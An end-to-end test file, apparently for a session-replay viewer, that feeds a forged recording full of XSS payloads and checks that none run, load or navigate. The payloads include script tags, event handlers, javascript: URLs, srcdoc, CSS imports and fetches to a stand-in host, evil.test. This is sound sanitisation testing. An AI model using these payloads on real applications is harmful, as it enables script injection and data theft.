// Anyone with a page's key can send this. Nothing of it may run, load or lead anywhere.
import assert from 'node:assert/strict';
import { until } from '../../../tools/e2e/wait.mjs';
import { sendSession } from '../lib/data.mjs';
import { replayFrame } from '../lib/visitor.mjs';

const EVIL = 'http://evil.test';
const RUN = `(top.pwned=1,parent.pwned=1,window.pwned=1,fetch('${EVIL}/stolen'))`;
let id = 100;
const node = (tagName, attributes = {}, ...childNodes) => ({ type: 2, id: id++, tagName, attributes, childNodes });
const text = (textContent) => ({ type: 3, id: id++, textContent });

const HOSTILE = () => [
  node('script', {}, text(RUN)),
  node('SCRIPT', { src: `${EVIL}/a.js` }),
  { ...node('svg', {}, { ...node('script', {}, text(RUN)), isSVG: true }), isSVG: true },
  node('img', { src: 'x', onerror: RUN }),
  node('img', { src: `${EVIL}/a.png`, srcset: `${EVIL}/b.png 1x` }),
  node('body', { onload: RUN }),
  node('details', { open: '', ontoggle: RUN }, text('x')),
  node('iframe', { srcdoc: `<script>${RUN}</script>` }),
  node('iframe', { src: `javascript:${RUN}` }),
  node('iframe', { src: `${EVIL}/frame` }),
  node('object', { data: `${EVIL}/o` }),
  node('embed', { src: `${EVIL}/e` }),
  node('a', { href: `javascript:${RUN}`, id: 'lure' }, text('click me')),
  node('meta', { 'http-equiv': 'refresh', content: `0;url=${EVIL}/refresh` }),
  node('base', { href: EVIL }),
  node('link', { rel: 'stylesheet', href: `${EVIL}/a.css` }),
  node(
    'style',
    {},
    text(
      `@import "${EVIL}/i.css"; body { background: url(${EVIL}/bg.png) } @font-face { font-family: x; src: url(${EVIL}/f.woff) } * { font-family: x }`,
    ),
  ),
  node('style', { _cssText: `b { background: u\\72l(${EVIL}/escaped.png) }` }),
  node('b', { style: `background-image: url("${EVIL}/inline.png")` }, text('b')),
  {
    ...node(
      'svg',
      {},
      { ...node('use', { 'xlink:href': `${EVIL}/s.svg#a` }), isSVG: true },
      { ...node('image', { href: `${EVIL}/svg.png` }), isSVG: true },
      { ...node('set', { attributeName: 'href', to: `javascript:${RUN}` }), isSVG: true },
    ),
    isSVG: true,
  },
  node('video', { src: `${EVIL}/v.mp4`, autoplay: '', poster: `${EVIL}/p.png` }),
  node('form', { action: `${EVIL}/form` }, node('button', { formaction: `javascript:${RUN}` }, text('send'))),
  node('template', {}, node('script', {}, text(RUN))),
  node('img', { src: '/admin/acme/keys' }),
  node('p', { id: 'harmless' }, text('harmless text')),
];

function recording(at) {
  const document_ = {
    type: 0,
    id: 1,
    childNodes: [
      { type: 1, id: 2, name: 'html', publicId: '', systemId: '' },
      {
        type: 2,
        id: 3,
        tagName: 'html',
        attributes: {},
        childNodes: [
          { type: 2, id: 4, tagName: 'head', attributes: {}, childNodes: [] },
          { type: 2, id: 5, tagName: 'body', attributes: {}, childNodes: HOSTILE() },
        ],
      },
    ],
  };
  const change = (data) => ({ type: 3, data });
  const events = [
    { type: 4, data: { href: `javascript:${RUN}`, width: 1e12, height: -5 } },
    { type: 4, data: { href: 'https://shop.example/', width: 800, height: 600 } },
    { type: 2, data: { node: document_, initialOffset: { top: 0, left: 0 } } },
    change({
      source: 0,
      texts: [],
      removes: [],
      attributes: [
        { id: 5, attributes: { onclick: RUN, onmouseover: RUN, style: { background: `url(${EVIL}/style.png)` } } },
      ],
      adds: HOSTILE().map((each) => ({ parentId: 5, nextId: null, node: each })),
    }),
    change({ source: 8, id: 120, adds: [{ rule: `i { background: url(${EVIL}/rule.png) }` }] }),
    change({
      source: 9,
      id: 5,
      type: 0,
      commands: [{ property: 'drawImage', args: [{ rr_type: 'HTMLImageElement', src: `${EVIL}/canvas.png` }] }],
    }),
    change({ source: 10, family: 'x', fontSource: `url(${EVIL}/font.woff)`, buffer: false }),
    change({ source: 2, type: 2, id: 5, x: 1, y: 1 }),
    change({ source: 5, id: 5, text: RUN, isChecked: false }),
    change({ source: 99, evil: true }),
    { type: 6, data: { plugin: 'rrweb/console@1', payload: { level: 'log', payload: [RUN] } } },
    { type: 5, data: { tag: 'x', payload: RUN } },
    { type: 42, data: {} },
    change({ source: 1, positions: [{ x: 10, y: 10, id: 5, timeOffset: -1e15 }] }),
    change({ source: 2, type: 1, id: 5, x: 2, y: 2 }),
  ];
  return events.map((event, index) => ({ ...event, timestamp: at + index * 40 }));
}

export const cases = {
  async 'nothing of a forged recording runs, loads or leads away'({ crow, open }) {
    const startedAt = Date.now() - 600_000;
    await sendSession(crow, {
      id: 'forged',
      startedAt,
      user: '<img src=x onerror=alert(1)>',
      replay: recording(startedAt),
      events: [
        [0, 'pageview', { page: '/"><script>alert(1)</script>' }],
        [1, 'custom', { name: 'x', message: '<b onclick=alert(1)>' }],
      ],
    });
    const [{ id: session }] = await until(async () => {
      const found = (await crow.sessions('&hasReplay=true')).filter(({ sessionId }) => sessionId === 'forged');
      return found.length ? found : undefined;
    });
    const { page, context } = await open('#/setup');
    const asked = [];
    const dialogs = [];
    context.on('request', (request) => asked.push(request.url()));
    page.on('dialog', (dialog) => (dialogs.push(dialog.message()), dialog.dismiss()));
    await page.goto(`${crow.page}/#/sessions/${session}`);
    const frame = await replayFrame(page);
    await frame.waitForSelector('#harmless', { state: 'attached' });
    await page.getByRole('button', { name: /^Play/ }).waitFor();
    const player = page.frames().find((each) => each.url().includes('/player.html'));
    assert.ok(frame.parentFrame() === player, 'the replay is in a document of its own');
    assert.equal(await frame.locator('script').count(), 0);
    for (const each of page.frames())
      assert.equal(await each.evaluate(() => window.pwned).catch(() => undefined), undefined, each.url());
    assert.deepEqual(
      asked.filter((url) => !url.startsWith(crow.page) && !url.startsWith('data:') && !url.startsWith('blob:')),
      [],
    );
    assert.deepEqual(
      asked.filter((url) => url.includes('/admin/')),
      [],
      'not even our own routes, with the cookie',
    );
    assert.deepEqual(dialogs, []);
    assert.ok(page.url().startsWith(crow.page));
    const leaked = await frame.evaluate(() =>
      [...document.querySelectorAll('*')].flatMap((element) =>
        [...element.attributes]
          .filter(({ name, value }) => /^on|srcdoc/.test(name) || /javascript:|evil/.test(value))
          .map(({ name, value }) => `${element.tagName} ${name}=${value}`),
      ),
    );
    assert.deepEqual(leaked, []);
    await page.getByRole('tab', { name: 'Details' }).click();
    await page.getByText(/Not shown: .*scripts/).waitFor();
  },

  async 'the player listens to nobody but the app'({ crow, open }) {
    const { page } = await open('#/setup');
    await page.goto(`${crow.page}/player.html`).catch(() => {});
    const started = await page.evaluate(async () => {
      window.postMessage(
        { type: 'reset', at: null, playing: true, speed: 1, skipIdle: false, follow: false },
        location.origin,
      );
      window.postMessage({ type: 'lines', text: '{}' }, location.origin);
      await new Promise((done) => setTimeout(done, 300));
      return document.getElementById('stage')?.childElementCount;
    });
    assert.equal(started, 0);
  },
};
